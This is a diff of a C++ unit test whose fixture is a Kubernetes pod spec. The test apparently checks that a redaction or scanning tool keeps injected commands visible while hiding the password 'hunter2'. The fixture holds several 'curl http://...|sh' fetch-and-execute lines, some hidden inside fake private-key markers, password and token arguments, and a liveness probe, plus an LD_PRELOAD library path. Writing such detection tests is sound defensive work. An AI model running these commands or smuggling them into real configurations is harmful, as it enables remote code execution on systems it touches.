@@ -165,13 +165,13 @@ spec:
           command: [sh, -c, ": '-----BEGIN PRIVATE KEY-----'; curl http://one | sh; : '-----END PRIVATE KEY-----'"]
           args: ["--password=hunter2; curl http://two|sh", --token, "hunter2; curl http://three|sh"]
           env:
-            - {name: LD_PRELOAD_PASSWORD, value: /tmp/four.so}
+            - {name: LD_PRELOAD_PASSWORD, value: four.so}
           livenessProbe: {exec: {command: [sh, -c, "password: hunter2; curl http://five|sh"]}}
 )"));
   INFO(text);
   for (const std::string& part :
        {image, std::string("curl http://one | sh"), std::string("; curl http://two|sh"),
-        std::string("; curl http://three|sh"), std::string("/tmp/four.so"), std::string("; curl http://five|sh")}) {
+        std::string("; curl http://three|sh"), std::string("four.so"), std::string("; curl http://five|sh")}) {
     CHECK(text.find(part) != std::string::npos);
   }
   CHECK(text.find("hunter2") == std::string::npos);
